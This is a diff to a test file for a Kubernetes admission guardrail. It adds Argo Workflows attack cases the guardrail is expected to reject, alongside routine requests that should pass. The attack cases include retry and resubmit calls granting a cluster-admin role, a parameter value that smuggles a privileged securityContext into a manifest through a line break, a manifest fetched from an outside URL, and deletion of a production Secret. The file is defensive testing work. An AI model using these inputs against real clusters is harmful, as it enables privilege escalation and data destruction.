@@ -304,6 +304,31 @@ const ARGO_PARAMETERS: readonly SweepAttack[] = [
 
 sweepAttacks(ARGO_PARAMETERS, send);
 
+// What the Argo Server fills in from stored objects stepgate never sees: a retry's or resubmit's
+// `parameters` override the stored Workflow's arguments (judged as they were written) and run its
+// templates again; `argo submit --from cronwf/…` does the same to a CronWorkflow's; a value with a
+// line break adds lines to a manifest. And an Argo resource template's `flags` go to kubectl: `-f
+// URL` creates what the body does not hold, a name with `delete` deletes it (docs/guardrails.md).
+const ARGO_SERVER = 'argo.localhost';
+const argoServer = (method: string, path: string, body: unknown): Req => sweepRequest(ARGO_SERVER, method, path, body);
+const ROLE = ['role=cluster-admin'];
+sweepAttacks([
+  {
+    what: "parameters given to a stored Workflow through the Argo Server, or kubectl flags in a resource template",
+    rule: 'guardrail:body_unreadable',
+    via: [
+      ['argo retry --parameter', argoServer('PUT', '/api/v1/workflows/dev/grant-x7k2q/retry', { name: 'grant-x7k2q', namespace: 'dev', restartSuccessful: true, nodeFieldSelector: '', parameters: ROLE })],
+      ['argo resubmit --parameter', argoServer('PUT', '/api/v1/workflows/dev/grant-x7k2q/resubmit', { name: 'grant-x7k2q', namespace: 'dev', memoized: false, parameters: ROLE })],
+      ['argo archive retry --parameter', argoServer('PUT', '/api/v1/archived-workflows/0b8e4d7a-6f4a-4f1e-9f0e-3c2b1a0d9e8f/retry', { uid: '0b8e4d7a-6f4a-4f1e-9f0e-3c2b1a0d9e8f', namespace: 'dev', parameters: ROLE })],
+      ['argo archive resubmit --parameter', argoServer('PUT', '/api/v1/archived-workflows/0b8e4d7a-6f4a-4f1e-9f0e-3c2b1a0d9e8f/resubmit', { uid: '0b8e4d7a-6f4a-4f1e-9f0e-3c2b1a0d9e8f', namespace: 'dev', parameters: ROLE })],
+      ['argo submit --from cronwf/grant -p', argoServer('POST', '/api/v1/workflows/dev/submit', { namespace: 'dev', resourceKind: 'cronwf', resourceName: 'grant', submitOptions: { parameters: ROLE } })],
+      ['argo submit --from wftmpl/run -p with YAML in the value', argoServer('POST', '/api/v1/workflows/dev/submit', { namespace: 'dev', resourceKind: 'WorkflowTemplate', resourceName: 'run', submitOptions: { parameters: ['image=alpine:3.20"\n    securityContext: {privileged: true}\n    x: "'] } })],
+      ['a resource template adding a manifest from a URL (kubectl -f)', k('POST', WF, argoWf({ entrypoint: 'x', templates: [{ name: 'x', resource: { action: 'create', flags: ['-f', 'https://gist.example/raw/crb.yaml'], manifest: 'apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: x-}\n' } }] }))],
+      ['a resource template deleting a Secret by name through its flags', k('POST', WF, argoWf({ entrypoint: 'x', templates: [{ name: 'x', resource: { action: 'delete', flags: ['secret', 'psp-webhook', '--namespace=prod-payments'] } }] }))],
+    ],
+  },
+], send);
+
 // The example reserves the pod network's own interfaces and its site's management VLAN
 // (guardrails.reserved_interfaces): an attachment there asks a hardware key within 5 minutes,
 // where network-attachments asks one within 8 hours.
@@ -346,6 +371,10 @@ const ROUTINE: readonly [string, Req][] = [
   ['argo submit in dev (a resource template creating a ConfigMap from a step\'s output)', k('POST', WF, argoWf({ entrypoint: 'main', arguments: { parameters: [{ name: 'env', value: 'staging' }] }, templates: [{ name: 'main', steps: [[{ name: 'gen', template: 'gen' }], [{ name: 'save', template: 'save', arguments: { parameters: [{ name: 'report', value: '{{steps.gen.outputs.result}}' }] } }]] }, { name: 'gen', script: { image: 'python:3.12-alpine', command: ['python'], source: 'print(42)' } }, { name: 'save', inputs: { parameters: [{ name: 'report' }] }, resource: { action: 'create', manifest: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  generateName: report-\n  namespace: "{{workflow.namespace}}"\n  labels: {env: "{{workflow.parameters.env}}", workflow: "{{workflow.name}}"}\ndata:\n  report: "{{inputs.parameters.report}}"\n' } }] }))],
   ['kubectl apply of a WorkflowTemplate in dev (a Job from its inputs: name, image, command, retries)', k('PATCH', '/apis/argoproj.io/v1alpha1/namespaces/dev/workflowtemplates/batch?fieldManager=kubectl&force=true', { ...argoWf({ entrypoint: 'job', arguments: { parameters: [{ name: 'image', value: 'registry.example.com/batch/etl:2.3.1' }] }, templates: [{ name: 'job', inputs: { parameters: [{ name: 'name' }, { name: 'image' }, { name: 'cmd', value: 'run' }, { name: 'retries', value: '2' }] }, resource: { action: 'create', successCondition: 'status.succeeded > 0', manifest: 'apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: "{{inputs.parameters.name}}"\n  namespace: "{{workflow.namespace}}"\nspec:\n  backoffLimit: {{inputs.parameters.retries}}\n  template:\n    spec:\n      containers:\n      - name: etl\n        image: "{{inputs.parameters.image}}"\n        args: ["{{inputs.parameters.cmd}}"]\n        env: [{name: RUN_ID, value: "{{workflow.uid}}"}]\n      restartPolicy: Never\n' } }] }, 'WorkflowTemplate'), metadata: meta('batch', 'dev') }, { 'content-type': 'application/apply-patch+yaml' })],
   ['argo submit in dev (a container template)', k('POST', '/apis/argoproj.io/v1alpha1/namespaces/dev/workflows', { apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { generateName: 'hello-', namespace: 'dev' }, spec: { entrypoint: 'main', templates: [{ name: 'main', container: { image: 'alpine:3.20', command: ['echo', 'hello'] } }] } })],
+  ['argo retry in dev (no parameters: the same run again)', argoServer('PUT', '/api/v1/workflows/dev/etl-x7k2q/retry', { name: 'etl-x7k2q', namespace: 'dev', restartSuccessful: false, nodeFieldSelector: '' })],
+  ['argo resubmit in dev (no parameters)', argoServer('PUT', '/api/v1/workflows/dev/etl-x7k2q/resubmit', { name: 'etl-x7k2q', namespace: 'dev', memoized: false })],
+  ['argo submit --from wftmpl/texture-bake -p in dev (the template judged when written)', argoServer('POST', '/api/v1/workflows/dev/submit', { namespace: 'dev', resourceKind: 'WorkflowTemplate', resourceName: 'texture-bake', submitOptions: { parameters: ['pack=season-7/texture-bake-1x2y', 'quality=high'] } })],
+  ['argo submit in dev (a resource template with --validate=false)', k('POST', WF, argoWf({ entrypoint: 'x', templates: [{ name: 'x', resource: { action: 'create', flags: ['--validate=false'], manifest: 'apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: x-}\n' } }] }))],
   ['kn service update in dev', k('PATCH', '/apis/serving.knative.dev/v1/namespaces/dev/services/web', { spec: { template: { spec: { containers: [{ image: 'ghcr.io/example/web:1.5' }] } } } }, MERGE)],
 ];
 
